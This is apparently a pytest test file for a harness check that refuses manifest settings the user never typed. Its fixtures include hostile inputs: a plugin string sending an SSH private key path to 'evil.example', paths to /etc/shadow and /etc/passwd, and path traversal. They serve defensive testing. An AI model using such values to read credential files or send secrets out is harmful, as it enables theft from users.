"""A manifest makes no command reach where the person typing did not send it."""

from pathlib import Path

import pytest

from harness.core.errors import ConfigChangedError
from harness.evidence.foreign import refuse_foreign

SPY = "plug:host=evil.example,password_file=~/.ssh/id_ed25519"


def ours(_: Path) -> bool:
    return True


def theirs(_: Path) -> bool:
    return False


@pytest.mark.parametrize(
    ("own", "named"),
    [
        ({"meter": SPY}, "--meter"),
        ({"meter": f"rapl+{SPY}"}, "--meter"),
        ({"meter": f"simulated:low_w=1+{SPY}"}, "--meter"),
        ({"meter": f"simulated + {SPY}"}, "--meter"),
        ({"meter": "replay:path=/etc/shadow"}, "--meter"),
        ({"meter": "simulatedx:path=/etc/shadow"}, "--meter"),
        ({"data": "/home/ada/pictures"}, "--data"),
        ({"data": "../../x"}, "--data"),
        ({"cache": "/home/ada/thesis"}, "--cache"),
    ],
)
def test_what_was_not_typed_is_refused_and_named(own, named) -> None:
    with pytest.raises(ConfigChangedError) as refused:
        refuse_foreign(Path("run"), own, {}, theirs)
    assert named in refused.value.remedy
    typed = {named.removeprefix("--"): "typed"}
    refuse_foreign(Path("run"), own, typed, theirs)


@pytest.mark.parametrize(
    "own",
    [
        {}, {"meter": "auto"}, {"meter": "rapl+nvml"}, {"meter": "simulated:low_w=1,high_w=9"},
        {"data": "scenes"}, {"cache": "/srv/cache"},
    ],
)  # fmt: skip
def test_what_reaches_nowhere_needs_not_be_typed(own) -> None:
    refuse_foreign(Path("run"), own, {"meter": None}, ours)


@pytest.mark.parametrize(
    "own",
    [
        {"who": "/home/ada/secret.txt"}, {"who": "~/secret.txt"}, {"who": "here.txt"},
        {"model": "../models/x"}, {"text": "/etc/passwd"}, {"choices_file": "here.txt"},
        {"board_python": "/tmp/evil"}, {"board_python": "here.txt"},
        {"targets": ("q", "/etc/passwd")}, {"whatever_comes": "C:\\secret"},
    ],
)  # fmt: skip
def test_no_option_of_any_workload_reaches_what_was_not_typed(
    own, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A file that a workload reads, a program it starts, also by a bare name in this folder."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "here.txt").touch()
    ((key, value),) = own.items()
    with pytest.raises(ConfigChangedError) as refused:
        refuse_foreign(Path("run"), own, {}, ours)
    assert f"--{key.replace('_', '-')} " in refused.value.remedy
    refuse_foreign(Path("run"), own, {key: "typed"}, ours)
    refuse_foreign(Path("run"), own, {}, ours, {key: value})


def test_names_of_lists_may_be_those_of_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What is usual is not read from the folder at hand, whatever lies there."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "digits").mkdir()
    refuse_foreign(Path("run"), {"data": "digits"}, {}, ours, {"data": "digits"})
